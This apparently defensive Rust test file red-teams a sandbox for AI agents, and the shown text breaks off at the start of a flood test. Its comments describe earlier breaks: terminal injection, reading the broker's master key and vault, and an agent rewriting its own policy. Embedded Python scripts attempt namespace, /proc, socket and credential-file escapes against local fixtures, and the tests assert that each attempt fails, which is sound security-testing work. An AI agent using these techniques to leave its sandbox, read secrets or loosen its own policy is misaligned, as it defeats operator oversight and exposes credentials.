//! Red-team tests of the unprivileged capture mode (issue 19; findings in
//! docs/design/unprivileged-redteam.md). brokerd and brokerctl run as uid 65534 as in
//! `tests/tests/unprivileged.rs`; "another user" is uid 65533.
//!
//! - breaks found on the code they were written against (`bfa18ba`), each now fixed and each
//!   a test here: the agent typed commands into the user's terminal (TIOCSTI), which the
//!   user's shell would run outside the sandbox (the seccomp filter refuses TIOCSTI and
//!   TIOCLINUX); the agent read brokerd's master key and vault, and rewrote its own policy when
//!   its work directory held the policy directory (same uid: the sandbox now hides brokerd's
//!   state and policy directories); brokerctl handed a sandbox's listeners to, and sent a secret
//!   to, whatever served `<run-dir>/sandbox.sock` / `control.sock`, another user's or one an
//!   agent planted in `/tmp/agent-broker-UID` (brokerctl now checks who serves a socket:
//!   `agent_broker_protocol::peer`); one sandbox's flood refused every other sandbox (shares
//!   were keyed by cgroup id 0; each sandbox has an id of its own); the agent's process name
//!   forged lines of brokerd's log (control characters are shown as `?`).
//! - holds: a battery of escapes from inside the sandbox (direct connects to the listener,
//!   UDP other than DNS, SCTP/MPTCP/UDP-Lite/ICMP sockets, TCP Fast Open, ancillary data,
//!   pid 1 of the sandbox (signals, /proc/1/root, /proc/1/ns, memory), mount, unshare, setns,
//!   open_by_handle_at, /proc/sys writes, a host abstract unix socket, loopback literals such
//!   as 0.0.0.0 and v4-mapped IPv6).
//!
//! Every destination is a loopback address or TEST-NET (which brokerd answers itself and
//! nothing routes). Needs root (only to drop to the test uids), python3, ip and nft. Run alone:
//! `cargo test -p agent-broker-tests --test unprivileged_attacks -- --test-threads=1`.

use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    thread,
    time::Duration,
};

use agent_broker_tests::{
    Canary, TestCa, TestServer, agent::agent_python, as_uid, bin, clients::run_in_cgroup,
    poll_until, require_privileges, wait_with_timeout, world::World,
};

/// The user brokerd, brokerctl and the agents run as.
const UID: u32 = 65534;

/// Another local user: the attacker of the run directory.
const OTHER_UID: u32 = 65533;

/// A directory owned by `OTHER_UID` (mode 0755), as `/tmp/agent-broker-65534` would be if
/// that user made it first. Removed on drop.
struct ForeignRunDir {
    dir: tempfile::TempDir,
}

impl ForeignRunDir {
    fn new() -> Self {
        let dir = tempfile::Builder::new()
            .prefix("abtest-foreign-run-")
            .tempdir_in("/tmp")
            .unwrap_or_else(|e| panic!("tempdir: {e}"));
        std::os::unix::fs::chown(dir.path(), Some(OTHER_UID), Some(OTHER_UID))
            .unwrap_or_else(|e| panic!("chown: {e}"));
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))
            .unwrap_or_else(|e| panic!("chmod: {e}"));
        Self { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn file(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
}

/// A fake brokerd of another user on `<dir>/sandbox.sock`: takes the hello and its sockets,
/// answers `serving` with its own CA, then accepts one connection on the stolen TCP listener
/// and keeps what the agent sent. Writes `ready`, `stolen` (the hello and the number of
/// descriptors) and `intercepted` (the bytes) in `<dir>`.
const FAKE_SANDBOX_SERVER_PY: &str = r#"
import array, json, os, socket, sys
d, ca = sys.argv[1], open(sys.argv[2]).read()
path = os.path.join(d, "sandbox.sock")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
os.chmod(path, 0o777)
srv.listen(1)
srv.settimeout(60)
open(os.path.join(d, "ready"), "w").close()
c, _ = srv.accept()
fds = array.array("i")
msg, anc, _, _ = c.recvmsg(65536, socket.CMSG_SPACE(16 * fds.itemsize))
for level, kind, data in anc:
    if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
        fds.frombytes(data[: len(data) - (len(data) % fds.itemsize)])
hello = json.loads(msg)
with open(os.path.join(d, "stolen"), "w") as f:
    json.dump({"hello": hello, "fds": len(fds)}, f)
c.sendall((json.dumps({"reply": "serving", "agent": hello["name"], "ca_pem": ca}) + "\n").encode())
tcp = socket.socket(fileno=fds[hello["sockets"].index("tcp")])
tcp.setblocking(True)
tcp.settimeout(30)
a, _ = tcp.accept()
a.settimeout(10)
data = a.recv(4096)
with open(os.path.join(d, "intercepted"), "wb") as f:
    f.write(data)
a.close()
c.settimeout(60)
c.recv(1)
"#;

/// The agent of the foreign run-dir test: one request to a TEST-NET address.
const AGENT_REQUEST_PY: &str = r#"
import socket
try:
    s = socket.create_connection(("192.0.2.10", 80), timeout=10)
    s.sendall(b"GET /intercepted-by-another-user HTTP/1.1\r\nHost: x\r\n\r\n")
    s.recv(100)
except Exception as e:
    print(type(e).__name__, flush=True)
"#;

/// Starts `script` under python3 as `uid` with `args`.
fn spawn_python_as(uid: u32, script: &str, args: &[&str]) -> std::process::Child {
    let argv = as_uid(uid, agent_python());
    Command::new(&argv[0])
        .args(&argv[1..])
        .arg("-c")
        .arg(script)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start python as uid {uid}: {e}"))
}

fn wait_ready(path: &Path, server: &mut std::process::Child) {
    let ready = poll_until(Duration::from_secs(20), || path.exists().then_some(()));
    if ready.is_none() {
        let _ = server.kill();
        let out = server.wait_with_output_or_default();
        panic!("the fake server never got ready: {out}");
    }
}

trait WaitOutput {
    fn wait_with_output_or_default(&mut self) -> String;
}

impl WaitOutput for std::process::Child {
    fn wait_with_output_or_default(&mut self) -> String {
        let _ = self.wait();
        let mut err = String::new();
        if let Some(mut e) = self.stderr.take() {
            let _ = std::io::Read::read_to_string(&mut e, &mut err);
        }
        err
    }
}

/// Break: brokerctl run --unprivileged hands the sandbox's listeners to a `sandbox.sock`
/// another user serves (and trusts that user's CA): that user then receives every connection
/// of the agent. It must check the peer (SO_PEERCRED: its own uid or root) and the run
/// directory's owner before sending anything.
#[test]
fn brokerctl_hands_no_sandbox_to_another_users_sandbox_socket() {
    require_privileges();
    let run = ForeignRunDir::new();
    let ca = TestCa::new("abtest foreign CA");
    let ca_copy = run.file("ca.pem");
    fs::copy(ca.pem_path(), &ca_copy).unwrap_or_else(|e| panic!("copy CA: {e}"));
    fs::set_permissions(&ca_copy, fs::Permissions::from_mode(0o644))
        .unwrap_or_else(|e| panic!("chmod: {e}"));
    let dir = run.path().to_string_lossy().into_owned();
    let ca_arg = ca_copy.to_string_lossy().into_owned();
    let mut server = spawn_python_as(OTHER_UID, FAKE_SANDBOX_SERVER_PY, &[&dir, &ca_arg]);
    wait_ready(&run.file("ready"), &mut server);

    let argv = as_uid(UID, &bin("brokerctl"));
    let python = agent_python().to_string_lossy().into_owned();
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..])
        .env_clear()
        .env(
            "PATH",
            std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into()),
        )
        .arg("--run-dir")
        .arg(run.path())
        .args(["run", "--unprivileged", "--as", "agents/redteam", "--"])
        .args([python.as_str(), "-c", AGENT_REQUEST_PY])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start brokerctl run: {e}"));
    let out = wait_with_timeout(child, Duration::from_secs(60), "brokerctl run");
    let _ = server.kill();
    let _ = server.wait();
    let stolen = fs::read_to_string(run.file("stolen")).ok();
    let intercepted = fs::read(run.file("intercepted")).unwrap_or_default();
    assert!(
        stolen.is_none() && intercepted.is_empty(),
        "brokerctl handed the sandbox to a sandbox.sock served by uid {OTHER_UID} (hello and \
         descriptors: {stolen:?}); that user received {} bytes the agent sent ({:?}); \
         brokerctl exited {}: {}",
        intercepted.len(),
        String::from_utf8_lossy(&intercepted)
            .lines()
            .next()
            .unwrap_or(""),
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !out.status.success(),
        "brokerctl must refuse a sandbox socket of another user"
    );
}

/// A fake control socket of another user: keeps every byte a client sends in `<dir>/received`.
const FAKE_CONTROL_SERVER_PY: &str = r#"
import os, socket, sys
d = sys.argv[1]
path = os.path.join(d, "control.sock")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
os.chmod(path, 0o777)
srv.listen(1)
srv.settimeout(60)
open(os.path.join(d, "ready"), "w").close()
c, _ = srv.accept()
c.settimeout(3)
data = b""
try:
    while True:
        b = c.recv(65536)
        if not b:
            break
        data += b
except socket.timeout:
    pass
with open(os.path.join(d, "received"), "wb") as f:
    f.write(data)
"#;

/// Break: `brokerctl secret set` sends the secret to a `control.sock` another user serves.
#[test]
fn brokerctl_sends_no_secret_to_another_users_control_socket() {
    require_privileges();
    let run = ForeignRunDir::new();
    let dir = run.path().to_string_lossy().into_owned();
    let mut server = spawn_python_as(OTHER_UID, FAKE_CONTROL_SERVER_PY, &[&dir]);
    wait_ready(&run.file("ready"), &mut server);
    let secret = Canary::new();
    let argv = as_uid(UID, &bin("brokerctl"));
    let mut child = Command::new(&argv[0])
        .args(&argv[1..])
        .arg("--run-dir")
        .arg(run.path())
        .args(["secret", "set", "ABTEST_REDTEAM_KEY"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start brokerctl secret set: {e}"));
    if let Some(mut stdin) = child.stdin.take() {
        let _ = std::io::Write::write_all(&mut stdin, secret.expose().as_bytes());
    }
    let out = wait_with_timeout(child, Duration::from_secs(30), "brokerctl secret set");
    let received = poll_until(Duration::from_secs(10), || {
        fs::read(run.file("received")).ok()
    })
    .unwrap_or_default();
    let _ = server.kill();
    let _ = server.wait();
    secret.assert_absent(&received, "what another user's control.sock received");
    assert!(
        received.is_empty(),
        "brokerctl talked to a control.sock served by uid {OTHER_UID} ({} bytes; exit {})",
        received.len(),
        out.status
    );
}

/// Every escape the sandboxed agent tries, as JSON: each attempt's outcome ("ok", an errno
/// name, or what came back).
const BATTERY_PY: &str = r#"
import ctypes, errno, json, os, signal, socket, struct, sys, time
cfg = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
out = {}
def attempt(name, fn):
    try:
        r = fn()
        out[name] = "ok" if r is None else r
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else "%s: %s" % (type(e).__name__, e)
    except Exception as e:
        out[name] = "%s: %s" % (type(e).__name__, e)
def sys_(nr, *args):
    r = libc.syscall(nr, *args)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return "ok"
def status_line(s):
    s.settimeout(5)
    data = b""
    try:
        while b"\r\n" not in data:
            d = s.recv(4096)
            if not d:
                break
            data += d
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return data.split(b"\r\n", 1)[0].decode("latin-1") or "closed"
def http(family, addr, proto=0, host="x"):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    s.settimeout(5)
    s.connect(addr)
    s.sendall(("GET /battery HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode())
    return status_line(s)
hp = cfg["host_port"]
# The listener itself, by its address in the namespace (a loop) and by other loopback names.
attempt("listener_v4", lambda: http(socket.AF_INET, ("127.0.0.1", 15001)))
attempt("listener_v6", lambda: http(socket.AF_INET6, ("::1", 15001)))
attempt("listener_mapped", lambda: http(socket.AF_INET6, ("::ffff:127.0.0.1", 15001)))
# The host's loopback service, under every spelling of loopback.
attempt("host_127_0_0_1", lambda: http(socket.AF_INET, ("127.0.0.1", hp)))
attempt("host_0_0_0_0", lambda: http(socket.AF_INET, ("0.0.0.0", hp)))
attempt("host_127_1_2_3", lambda: http(socket.AF_INET, ("127.1.2.3", hp)))
attempt("host_mapped", lambda: http(socket.AF_INET6, ("::ffff:127.0.0.1", hp)))
attempt("host_v6_any", lambda: http(socket.AF_INET6, ("::", hp)))
attempt("host_v6_compat", lambda: http(socket.AF_INET6, ("::127.0.0.1", hp)))
attempt("host_with_api_host_header", lambda: http(socket.AF_INET, ("127.0.0.1", hp), host=cfg["api"]))
# TCP Fast Open: data in the SYN.
def tfo():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.sendto(b"GET /tfo HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 0x20000000, ("127.0.0.1", hp))
    return status_line(s)
attempt("tfo_host", tfo)
# Other transports.
attempt("mptcp_host", lambda: http(socket.AF_INET, ("127.0.0.1", hp), 262))
def sctp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(5)
    s.connect(("127.0.0.1", hp))
attempt("sctp", sctp)
def udp(addr, proto=0, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    s.settimeout(2)
    s.sendto(b"battery", addr)
    try:
        return "reply: %r" % s.recv(100)[:20]
    except socket.timeout:
        return "sent, no reply"
attempt("udp_host_port", lambda: udp(("127.0.0.1", cfg["udp_port"])))
attempt("udp_testnet_123", lambda: udp(("192.0.2.10", 123)))
attempt("udplite_53", lambda: udp(("192.0.2.10", 53), 136))
attempt("udp_dns_socket_direct_garbage", lambda: udp(("127.0.0.1", 15053)))
attempt("udp6_host_port", lambda: udp(("::1", cfg["udp_port"]), 0, socket.AF_INET6))
def connected_udp_53():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect(("192.0.2.10", 53))
    s.send(b"GET / HTTP/1.1\r\n\r\n")
    try:
        return "reply: %r" % s.recv(100)[:20]
    except socket.timeout:
        return "sent, no reply"
attempt("udp_connected_53_non_dns", connected_udp_53)
def pktinfo():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    # IP_PKTINFO: ifindex 0, spec_dst 10.1.2.3, addr 0
    info = struct.pack("@I4s4s", 0, socket.inet_aton("10.1.2.3"), socket.inet_aton("0.0.0.0"))
    s.sendmsg([b"battery"], [(socket.IPPROTO_IP, 8, info)], 0, ("127.0.0.1", cfg["udp_port"]))
    return "sent"
attempt("udp_pktinfo", pktinfo)
attempt("ping_socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0", ("127.0.0.1", 0)))
attempt("raw_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP))
attempt("netlink_route_add", lambda: os.system("ip route add 10.0.0.0/8 dev lo 2>/dev/null") or "exit 0")
attempt("nft_add_rule", lambda: os.system("nft add rule inet agent_broker filter_output accept 2>/dev/null") or "exit 0")
# Unix sockets of the host.
def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(path)
attempt("host_abstract_unix", lambda: unix("\0" + cfg["abstract"]))
attempt("host_pathname_unix", lambda: unix(cfg["pathname"]))
attempt("sandbox_sock_via_proc1_root", lambda: unix("/proc/1/root" + cfg["sandbox"]))
attempt("control_sock_via_proc1_root", lambda: unix("/proc/1/root" + cfg["control"]))
attempt("run_dir_listing", lambda: ",".join(os.listdir(cfg["run_dir"])) or "empty")
# Pid 1 (brokerctl's init) and the rest of the pid namespace.
attempt("pids", lambda: ",".join(sorted(p for p in os.listdir("/proc") if p.isdigit())))
attempt("kill_init_0", lambda: os.kill(1, 0))
attempt("proc1_root", lambda: ",".join(os.listdir("/proc/1/root"))[:40])
attempt("proc1_environ", lambda: len(open("/proc/1/environ", "rb").read()))
attempt("proc1_mem", lambda: open("/proc/1/mem", "rb").read(1))
attempt("proc1_fd", lambda: ",".join(os.listdir("/proc/1/fd")))
attempt("process_vm_readv_init", lambda: sys_(310, 1, 0, 0, 0, 0, 0))
def sys_pidfd_open(pid):
    r = libc.syscall(434, pid, 0)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r
attempt("pidfd_getfd_init", lambda: sys_(438, sys_pidfd_open(1), 3, 0))
def setns(path, nstype):
    fd = os.open(path, os.O_RDONLY)
    return sys_(308, fd, nstype)
attempt("setns_init_net", lambda: setns("/proc/1/ns/net", 0x40000000))
attempt("setns_init_mnt", lambda: setns("/proc/1/ns/mnt", 0x00020000))
attempt("setns_init_user", lambda: setns("/proc/1/ns/user", 0x10000000))
def own_fds():
    fds = []
    for f in os.listdir("/proc/self/fd"):
        try:
            fds.append("%s=%s" % (f, os.readlink("/proc/self/fd/" + f)))
        except OSError:
            pass
    return ",".join(fds)
attempt("own_fds", own_fds)
# Namespaces, mounts, handles, sysctls.
attempt("unshare_net", lambda: sys_(272, 0x40000000))
attempt("unshare_user", lambda: sys_(272, 0x10000000))
attempt("unshare_mnt", lambda: sys_(272, 0x00020000))
attempt("mount_tmpfs_over_run_dir", lambda: sys_(165, b"tmpfs", cfg["run_dir"].encode(), b"tmpfs", 0, None))
attempt("umount_run_dir_mask", lambda: sys_(166, cfg["run_dir"].encode(), 2))
def by_handle():
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", buf, 0, 128)
    mnt = ctypes.c_int()
    sys_(303, -100, b"/", buf, ctypes.byref(mnt), 0)
    return sys_(304, -100, buf, os.O_RDONLY)
attempt("open_by_handle_at", by_handle)
attempt("write_ip_forward", lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"))
attempt("write_max_userns", lambda: open("/proc/sys/user/max_user_namespaces", "w").write("10"))
attempt("io_uring_setup", lambda: sys_(425, 8, ctypes.create_string_buffer(120)))
attempt("userfaultfd", lambda: sys_(323, 0))
attempt("keyctl", lambda: sys_(250, 0, -3, 0))
attempt("vsock_create", lambda: socket.socket(40, socket.SOCK_STREAM).close())
attempt("af_alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET).close())
attempt("netlink_sock_diag", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4).close())
attempt("netlink_netfilter", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).close())
print(json.dumps(out), flush=True)
"#;

/// Holds: everything the agent can try from inside the sandbox reaches nothing brokerd did not
/// decide, and the host's loopback service, abstract socket and UDP port receive nothing.
#[test]
fn the_sandbox_attack_battery_reaches_nothing_brokerd_did_not_decide() {
    let w = World::unprivileged(UID);
    let service = TestServer::http("127.0.0.1:0", "host service\n");
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("udp: {e}"));
    udp.set_nonblocking(true)
        .unwrap_or_else(|e| panic!("udp nonblocking: {e}"));
    let abstract_name = format!("abtest-redteam-{}", std::process::id());
    let abstract_listener = {
        use std::os::linux::net::SocketAddrExt as _;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes())
            .unwrap_or_else(|e| panic!("abstract name: {e}"));
        let l = std::os::unix::net::UnixListener::bind_addr(&addr)
            .unwrap_or_else(|e| panic!("abstract bind: {e}"));
        l.set_nonblocking(true)
            .unwrap_or_else(|e| panic!("abstract nonblocking: {e}"));
        l
    };
    // A pathname socket of the host in /tmp, open to everyone (docs: not masked, reachable).
    let pathname = PathBuf::from(format!("/tmp/abtest-redteam-{}.sock", std::process::id()));
    let _ = fs::remove_file(&pathname);
    let pathname_listener = std::os::unix::net::UnixListener::bind(&pathname)
        .unwrap_or_else(|e| panic!("pathname bind: {e}"));
    pathname_listener
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("pathname nonblocking: {e}"));
    fs::set_permissions(&pathname, fs::Permissions::from_mode(0o777))
        .unwrap_or_else(|e| panic!("chmod: {e}"));
    let cfg = serde_json::json!({
        "host_port": service.addr().port(),
        "udp_port": udp.local_addr().map(|a| a.port()).unwrap_or(0),
        "abstract": abstract_name,
        "pathname": pathname,
        "run_dir": w.broker.run_dir(),
        "sandbox": w.broker.run_dir().join("sandbox.sock"),
        "control": w.broker.run_dir().join("control.sock"),
        "api": agent_broker_tests::world::API,
    });
    let python = agent_python().to_string_lossy().into_owned();
    let run = run_in_cgroup(
        &w.broker,
        &w.agent,
        "attack battery",
        &[],
        &[python, "-c".into(), BATTERY_PY.into(), cfg.to_string()],
    );
    let stdout = String::from_utf8_lossy(&run.output.stdout);
    let out: serde_json::Value = stdout
        .lines()
        .rev()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| panic!("no JSON from the agent: {}", run.show()));
    eprintln!("attack battery outcomes: {out:#}");
    thread::sleep(Duration::from_millis(300));
    let pathname_reached = pathname_listener.accept().is_ok();
    let _ = fs::remove_file(&pathname);
    eprintln!("host pathname unix socket reached from the sandbox: {pathname_reached}");

    let get = |k: &str| out[k].as_str().unwrap_or("").to_string();
    // Oracles: nothing on the host side received anything.
    assert!(
        service.accepted().is_empty(),
        "the host's loopback service must receive nothing: {:?} ({out})",
        service.accepted()
    );
    let mut buf = [0u8; 64];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "the host's UDP port must receive nothing ({out})"
    );
    assert!(
        abstract_listener.accept().is_err(),
        "the host's abstract unix socket must not be reached ({out})"
    );
    // Loopback under every spelling: brokerd's 403 (no rule names it), or refused.
    for key in [
        "host_127_0_0_1",
        "host_0_0_0_0",
        "host_127_1_2_3",
        "host_mapped",
        "host_v6_any",
        "host_with_api_host_header",
        "tfo_host",
        "mptcp_host",
    ] {
        let v = get(key);
        assert!(
            !v.contains("200"),
            "{key}: the host's loopback service must not answer: {v} ({out})"
        );
    }
    // The listener dialed directly: never served as a destination.
    for key in ["listener_v4", "listener_v6", "listener_mapped"] {
        let v = get(key);
        assert!(!v.contains("200"), "{key}: {v} ({out})");
    }
    // Refused outright.
    for key in [
        "sctp",
        "udp_host_port",
        "udp_testnet_123",
        "udplite_53",
        "udp6_host_port",
        "udp_pktinfo",
        "ping_socket",
        "raw_udp",
        "host_abstract_unix",
        "sandbox_sock_via_proc1_root",
        "control_sock_via_proc1_root",
        "proc1_root",
        "proc1_environ",
        "proc1_mem",
        "proc1_fd",
        "process_vm_readv_init",
        "pidfd_getfd_init",
        "setns_init_net",
        "setns_init_mnt",
        "setns_init_user",
        "unshare_net",
        "unshare_user",
        "unshare_mnt",
        "mount_tmpfs_over_run_dir",
        "umount_run_dir_mask",
        "open_by_handle_at",
        "write_ip_forward",
        "write_max_userns",
        "io_uring_setup",
        "userfaultfd",
        "keyctl",
        "vsock_create",
        "af_alg",
        "netlink_sock_diag",
        "netlink_netfilter",
    ] {
        let v = get(key);
        assert!(
            !v.is_empty() && v != "ok" && !v.starts_with("reply") && v != "sent",
            "{key} must fail: {v:?} (all: {out})"
        );
    }
    for key in ["netlink_route_add", "nft_add_rule"] {
        assert!(
            get(key) != "exit 0" && out[key].as_i64() != Some(0),
            "{key} must fail: {} ({out})",
            out[key]
        );
    }
    // The run directory is an empty mask; the agent holds no descriptor but stdio and its own.
    assert!(
        matches!(
            get("run_dir_listing").as_str(),
            "empty" | "EACCES" | "ENOENT"
        ),
        "run dir: {} ({out})",
        get("run_dir_listing")
    );
    for entry in get("own_fds").split(',') {
        assert!(
            !entry.contains("socket:")
                || entry.starts_with("0=")
                || entry.starts_with("1=")
                || entry.starts_with("2="),
            "the agent inherited a socket: {entry} ({out})"
        );
    }
    // Pid 1 is the only other process, and it is not the agent's to read.
    assert!(
        get("pids").split(',').count() <= 3,
        "the pid namespace: {} ({out})",
        get("pids")
    );
    // Still working afterwards.
    let (run, report) =
        agent_broker_tests::clients::curl(&w.broker, &w.agent, &w.trust(), &w.call("/hash"));
    w.assert_injected("curl after the attack battery", &run, &report);
    w.assert_no_secret_in_logs();
}

/// Reads brokerd's key file and vault (paths in argv) and prints, as JSON, the key's SHA-256
/// (never the key) and how many bytes of the vault it could read, or the errno.
const READ_STATE_PY: &str = r#"
import errno, hashlib, json, sys
out = {}
for name, path in (("key", sys.argv[1]), ("vault", sys.argv[2])):
    try:
        data = open(path, "rb").read()
        out[name] = hashlib.sha256(data).hexdigest() if name == "key" else len(data)
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps(out), flush=True)
"#;

/// Break: the agent runs as brokerd's own uid, Landlock lets it read the whole file system,
/// and brokerd's state directory (`~/.local/state/agent-broker` by default; `master.key` and
/// `vault.redb`) is not masked: the agent reads the master key and the encrypted vault, which
/// is every real credential.
#[test]
fn the_agent_cannot_read_brokerds_master_key_or_vault() {
    let w = World::unprivileged(UID);
    let key = w.broker.state_dir().join("master.key");
    let vault = w.broker.state_dir().join("vault.redb");
    let real = fs::read(&key).unwrap_or_else(|e| panic!("reading {}: {e}", key.display()));
    let real_hash = agent_broker_tests::sha256_hex(&real);
    let python = agent_python().to_string_lossy().into_owned();
    let run = run_in_cgroup(
        &w.broker,
        &w.agent,
        "read brokerd's state",
        &[],
        &[
            python,
            "-c".into(),
            READ_STATE_PY.into(),
            key.to_string_lossy().into_owned(),
            vault.to_string_lossy().into_owned(),
        ],
    );
    let stdout = String::from_utf8_lossy(&run.output.stdout);
    let out: serde_json::Value = stdout
        .lines()
        .rev()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| {
            panic!(
                "no JSON from the agent: {}",
                String::from_utf8_lossy(&run.output.stderr)
            )
        });
    let key_read = out["key"].as_str() == Some(real_hash.as_str());
    let vault_read = out["vault"].as_u64();
    assert!(
        !key_read && vault_read.is_none(),
        "the sandboxed agent read brokerd's master key {}: {key_read} (its SHA-256 matches \
         when true), and {vault_read:?} bytes of the vault {}",
        key.display(),
        vault.display()
    );
}

/// Appends a rule for `host` (port, injection) to the policy file in argv[1], then waits for
/// brokerd to reload it.
const WRITE_POLICY_PY: &str = r#"
import json, sys, time
path, host, port, secret = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
try:
    with open(path, "a") as f:
        f.write('\n[[allow]]\nhost = "%s"\nport = %d\ninject.headers = { authorization = "Bearer {secret:%s}" }\n' % (host, port, secret))
    time.sleep(3)
    print(json.dumps({"write": "ok"}), flush=True)
except OSError as e:
    print(json.dumps({"write": e.strerror}), flush=True)
"#;

/// Break (when the work directory contains brokerd's policy directory, as `~` contains
/// `~/.config/agent-broker/policies`): the agent, which runs as brokerd's user, writes itself
/// a rule, brokerd reloads the directory, and the agent gets what no operator allowed.
#[test]
fn the_agent_cannot_rewrite_its_own_policy_from_its_work_directory() {
    use agent_broker_tests::world::{OTHER, SECRET_NAME, api_ip};
    let w = World::unprivileged(UID);
    // As a user's own policy directory is: owned by the user brokerd runs as.
    let policy_dir = w.broker.policy_dir();
    for entry in fs::read_dir(&policy_dir)
        .unwrap_or_else(|e| panic!("{}: {e}", policy_dir.display()))
        .flatten()
        .map(|e| e.path())
        .chain([policy_dir.clone()])
    {
        std::os::unix::fs::chown(&entry, Some(UID), Some(UID))
            .unwrap_or_else(|e| panic!("chown {}: {e}", entry.display()));
    }
    // Denied before.
    let denied = agent_broker_tests::clients::Call::new(OTHER, api_ip(), w.api.port(), "/hash");
    let (_, report) = agent_broker_tests::clients::curl(&w.broker, &w.agent, &w.trust(), &denied);
    report.assert_denied(&w.agent, "a host without a rule, before");
    // The agent, whose work directory holds the policy directory (as `~` holds
    // `~/.config/agent-broker/policies`), appends a rule to its own policy.
    let home = policy_dir
        .parent()
        .unwrap_or_else(|| panic!("{} has no parent", policy_dir.display()))
        .to_path_buf();
    let python = agent_python().to_string_lossy().into_owned();
    let argv = as_uid(UID, &bin("brokerctl"));
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..])
        .env_clear()
        .env(
            "PATH",
            std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into()),
        )
        .arg("--run-dir")
        .arg(w.broker.run_dir())
        .args(["run", "--unprivileged", "--as", &w.agent, "--workdir"])
        .arg(&home)
        .arg("--")
        .args([python.as_str(), "-c", WRITE_POLICY_PY])
        .arg(policy_dir.join("agent.toml"))
        .args([OTHER, &w.api.port().to_string(), SECRET_NAME])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start brokerctl run: {e}"));
    let out = wait_with_timeout(child, Duration::from_secs(60), "the policy writer");
    eprintln!(
        "policy writer: {} {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    thread::sleep(Duration::from_secs(2));
    for line in w.broker.log().lines().filter(|l| l.contains("polic")) {
        eprintln!("brokerd: {line}");
    }
    let (_, report) = agent_broker_tests::clients::curl(&w.broker, &w.agent, &w.trust(), &denied);
    assert_eq!(
        report.status, 403,
        "after the agent wrote itself a rule for {OTHER}, brokerd must still deny it (status \
         {}; the upstream saw the injected credential when it is 200)",
        report.status
    );
}

/// Opens as many connections as it can (up to argv[1]) to a TEST-NET address, without sending,
/// prints how many it holds, and keeps them for argv[2] seconds.
const HOLD_PY: &str = r#"
import json, resource, socket, sys, time
n, hold = int(sys.argv[1]), float(sys.argv[2])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held, err = [], None
for i in range(n):
    try:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("192.0.2.10", 80))
        held.append(s)
    except OSError as e:
        err = e.strerror
        break
print(json.dumps({"held": len(held), "error": err}), flush=True)
time.sleep(hold)
"#;

/// Break: one sandbox holding thousands of connections to brokerd starves another agent's
/// sandbox: brokerd keys every agent's share by `cgroup_id`, which is 0 for every sandbox
/// (daemon/src/capture/original_dst.rs), so all sandboxes, whatever their names, share one
/// share. The control socket still answers.
#[test]
fn one_sandbox_flooding_brokerd_does_not_starve_another_agents_sandbox() {
    let w = World::unprivileged(UID);
